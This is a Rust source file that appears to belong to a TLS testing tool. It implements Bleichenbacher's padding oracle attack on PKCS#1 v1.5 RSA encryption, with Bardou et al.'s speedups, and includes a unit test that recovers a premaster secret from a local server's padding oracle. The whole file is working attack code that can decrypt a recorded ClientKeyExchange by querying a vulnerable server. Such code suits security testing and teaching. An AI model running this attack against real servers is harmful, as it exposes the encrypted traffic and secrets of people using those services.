//! Bleichenbacher's attack on PKCS#1 v1.5 encryption (CRYPTO 1998, "Chosen Ciphertext Attacks
//! Against Protocols Based on the RSA Encryption Standard PKCS #1"), with two of Bardou et al.'s
//! improvements (CRYPTO 2012, "Efficient Padding Oracle Attacks on Cryptographic Hardware"):
//! trimming M0 before the search, and skipping the holes in step 2a.
//!
//! The oracle answers one question about a ciphertext c': does c'^d mod n start 00 02? Given a
//! conforming ciphertext c (a recorded ClientKeyExchange is one), every conforming c·s^e mod n
//! says 2B ≤ m·s − r·n < 3B for some r, with B = 2^(8(k−2)), which narrows the set of m until
//! one value is left. The oracle takes a batch of ciphertexts so a caller can ask them over
//! parallel connections; answers must come back in order.

use num_bigint::BigUint;
use zeroize::Zeroizing;

/// What the attack found.
pub struct Recovered {
    /// The whole encoded block m = c^d mod n (`k` bytes): 00 02 PS 00 M.
    pub block: Zeroizing<Vec<u8>>,
    /// Ciphertexts the oracle was asked about.
    pub queries: u64,
}

/// Why the attack stopped without m.
#[derive(Debug)]
pub enum AttackError<E> {
    /// The oracle failed (a network error, say).
    Oracle(E),
    /// The oracle's answers contradict each other (no m fits them) or the ciphertext is not
    /// conforming to begin with.
    Inconsistent(&'static str),
    /// The query budget ran out.
    Budget(u64),
}

/// Recovers m = c^d mod n for a conforming `ciphertext` under (`n`, `e`) by asking `oracle`,
/// which answers for each ciphertext of a batch whether it decrypts to a block starting 00 02.
/// `batch` is the most ciphertexts asked at once; `budget` the most asked in all. `on_narrow`
/// hears, each time the set of candidates for m shrinks, its total width in bits.
pub fn recover<E>(
    n_bytes: &[u8],
    e_bytes: &[u8],
    ciphertext: &[u8],
    batch: usize,
    budget: u64,
    mut oracle: impl FnMut(&[Vec<u8>]) -> Result<Vec<bool>, E>,
    mut on_narrow: impl FnMut(u64),
) -> Result<Recovered, AttackError<E>> {
    let n = BigUint::from_bytes_be(n_bytes);
    let e = BigUint::from_bytes_be(e_bytes);
    let k = n_bytes.len();
    let c = BigUint::from_bytes_be(ciphertext);
    if k < 12 || c >= n {
        return Err(AttackError::Inconsistent(
            "the ciphertext is not below the modulus",
        ));
    }
    let big_b = BigUint::from(1u8) << (8 * (k - 2));
    let two_b = &big_b * 2u8;
    let three_b = &big_b * 3u8;
    let batch = batch.max(1);
    let mut queries = 0u64;
    // Asks the oracle about c·s^e mod n for every s in `ss`.
    let mut ask = |ss: &[BigUint]| -> Result<Vec<bool>, AttackError<E>> {
        if queries + ss.len() as u64 > budget {
            return Err(AttackError::Budget(queries));
        }
        queries += ss.len() as u64;
        let cts: Vec<Vec<u8>> = ss
            .iter()
            .map(|s| to_k_bytes(&(&c * s.modpow(&e, &n) % &n), k))
            .collect();
        let answers = oracle(&cts).map_err(AttackError::Oracle)?;
        if answers.len() != ss.len() {
            return Err(AttackError::Inconsistent(
                "the oracle answered a different number",
            ));
        }
        Ok(answers)
    };

    // Trimming (Bardou et al. §4.1): if m·u/t is conforming for coprime u, t with
    // 2/3 < u/t < 3/2, then 2B·t/u ≤ m < 3B·t/u. Queries c·(u·t⁻¹)^e for small t.
    let mut a = two_b.clone();
    let mut b = &three_b - 1u8;
    let mut trimmers = Vec::new();
    for t in 3u32..=40 {
        for u in (2 * t / 3 + 1)..(3 * t).div_ceil(2) {
            if u != t && gcd(u, t) == 1 {
                trimmers.push((u, t));
            }
        }
    }
    for chunk in trimmers.chunks(batch) {
        let ss: Vec<BigUint> = chunk
            .iter()
            .filter_map(|&(u, t)| {
                let t_inv = BigUint::from(t).modinv(&n)?;
                Some(BigUint::from(u) * t_inv % &n)
            })
            .collect();
        if ss.len() != chunk.len() {
            return Err(AttackError::Inconsistent(
                "a trimmer shares a factor with n",
            ));
        }
        for (&(u, t), ok) in chunk.iter().zip(ask(&ss)?) {
            if ok {
                a = a.max(ceil_div(&(&two_b * t), &BigUint::from(u)));
                b = b.min((&three_b * t - 1u8) / u);
            }
        }
    }
    if a > b {
        return Err(AttackError::Inconsistent("trimming left no m"));
    }
    let mut m_set = vec![(a, b)];
    on_narrow(width_bits(&m_set));

    // Step 2a with holes skipped: s·m lands in [jn + 2B, jn + 3B) only for s in
    // [⌈(jn + 2B)/b⌉, ⌊(jn + 3B − 1)/a⌋]; try those ranges for j = 1, 2, …
    let mut s = {
        let (a, b) = &m_set[0];
        let mut found = None;
        let mut j = BigUint::from(1u8);
        let mut next = ceil_div(&(&n + &two_b), b);
        while found.is_none() {
            let lo = ceil_div(&(&j * &n + &two_b), b).max(next.clone());
            let hi = (&j * &n + &three_b - 1u8) / a;
            let mut cand = lo;
            while cand <= hi && found.is_none() {
                let mut ss = Vec::with_capacity(batch);
                while ss.len() < batch && cand <= hi {
                    ss.push(cand.clone());
                    cand += 1u8;
                }
                found = first_conforming(&ss, &ask(&ss)?);
            }
            next = cand;
            j += 1u8;
        }
        found.unwrap_or_default()
    };

    loop {
        m_set = narrow(&m_set, &s, &n, &two_b, &three_b);
        on_narrow(width_bits(&m_set));
        match m_set.as_slice() {
            [] => return Err(AttackError::Inconsistent("no m fits the oracle's answers")),
            [(a, b)] if a == b => {
                return Ok(Recovered {
                    block: Zeroizing::new(to_k_bytes(a, k)),
                    queries,
                })
            }
            [(a, b)] => {
                // Step 2c: r from 2(b·s − 2B)/n up, s in [(2B + rn)/b, (3B + rn)/a).
                let mut r = ceil_div(&((b * &s - &two_b) * 2u8), &n);
                s = loop {
                    let lo = ceil_div(&(&two_b + &r * &n), b);
                    let hi = (&three_b - 1u8 + &r * &n) / a;
                    let mut ss = Vec::new();
                    let mut cand = lo;
                    while cand <= hi {
                        ss.push(cand.clone());
                        cand += 1u8;
                    }
                    if !ss.is_empty() {
                        if let Some(found) = first_conforming(&ss, &ask(&ss)?) {
                            break found;
                        }
                    }
                    r += 1u8;
                };
            }
            _ => {
                // Step 2b: the next conforming s above the last one.
                let mut cand = &s + 1u8;
                s = loop {
                    let ss: Vec<BigUint> = (0..batch).map(|i| &cand + i).collect();
                    if let Some(found) = first_conforming(&ss, &ask(&ss)?) {
                        break found;
                    }
                    cand += batch;
                };
            }
        }
    }
}

/// Step 3: keep of each [a, b] what s·m − r·n ∈ [2B, 3B − 1] allows, for every r.
fn narrow(
    m_set: &[(BigUint, BigUint)],
    s: &BigUint,
    n: &BigUint,
    two_b: &BigUint,
    three_b: &BigUint,
) -> Vec<(BigUint, BigUint)> {
    let mut out: Vec<(BigUint, BigUint)> = Vec::new();
    for (a, b) in m_set {
        let lo_r = {
            let x = a * s + 1u8;
            if x > *three_b {
                ceil_div(&(x - three_b), n)
            } else {
                BigUint::default()
            }
        };
        let hi_r = if b * s >= *two_b {
            (b * s - two_b) / n
        } else {
            continue;
        };
        let mut r = lo_r;
        while r <= hi_r {
            let new_a = a.clone().max(ceil_div(&(two_b + &r * n), s));
            let new_b = b.clone().min((three_b - 1u8 + &r * n) / s);
            if new_a <= new_b {
                insert_interval(&mut out, new_a, new_b);
            }
            r += 1u8;
        }
    }
    out
}

/// Adds [a, b] to a set of disjoint intervals, merging overlaps.
fn insert_interval(set: &mut Vec<(BigUint, BigUint)>, mut a: BigUint, mut b: BigUint) {
    let mut kept = Vec::with_capacity(set.len() + 1);
    for (x, y) in set.drain(..) {
        if y < a || x > b {
            kept.push((x, y));
        } else {
            a = a.min(x);
            b = b.max(y);
        }
    }
    kept.push((a, b));
    kept.sort();
    *set = kept;
}

/// Bits of the number of candidates left: log2 of the summed interval widths, rounded up.
fn width_bits(m_set: &[(BigUint, BigUint)]) -> u64 {
    let total: BigUint = m_set.iter().map(|(a, b)| b - a + 1u8).sum();
    if total <= BigUint::from(1u8) {
        return 0;
    }
    (total - 1u8).bits()
}

fn first_conforming(ss: &[BigUint], answers: &[bool]) -> Option<BigUint> {
    ss.iter()
        .zip(answers)
        .find(|(_, &ok)| ok)
        .map(|(s, _)| s.clone())
}

fn ceil_div(x: &BigUint, y: &BigUint) -> BigUint {
    (x + y - 1u8) / y
}

fn gcd(mut a: u32, mut b: u32) -> u32 {
    while b != 0 {
        (a, b) = (b, a % b);
    }
    a
}

/// Big-endian, left-padded with zeros to `k` bytes (I2OSP, RFC 8017 §4.1).
fn to_k_bytes(x: &BigUint, k: usize) -> Vec<u8> {
    let bytes = x.to_bytes_be();
    let mut out = vec![0u8; k.saturating_sub(bytes.len())];
    out.extend_from_slice(&bytes);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    use rsa::traits::PublicKeyParts;

    use crate::crypto::rng::from_seed;
    use crate::endpoint::server::PaddingOracle;
    use crate::pki;

    /// Against a local strong oracle (the server's own `--oracle strong` check) on RSA-1024,
    /// the attack returns the block whose message is the premaster that was encrypted.
    #[test]
    fn recovers_a_premaster_from_a_strong_oracle() {
        let mut r = from_seed(18, "bleichenbacher");
        let key = pki::generate_key(&mut r, 1024).expect("keygen");
        let public = key.to_public_key();
        let mut premaster = [7u8; 48];
        premaster[..2].copy_from_slice(&[3, 3]);
        let c = pki::rsa_encrypt_pkcs1(&public, &premaster, &mut r).expect("encrypt");
        let n = public.n().to_be_bytes_trimmed_vartime();
        let e = public.e().to_be_bytes_trimmed_vartime();
        let found = recover(
            &n,
            &e,
            &c,
            16,
            200_000,
            |cts| {
                Ok::<_, ()>(
                    cts.iter()
                        .map(|ct| !PaddingOracle::Strong.leaks(&key, ct))
                        .collect(),
                )
            },
            |_| {},
        )
        .expect("attack");
        assert_eq!(found.block[..2], [0x00, 0x02]);
        assert_eq!(
            found.block[found.block.len() - 49..],
            [&[0u8][..], &premaster].concat()
        );
        assert!(found.queries > 0);
    }
}
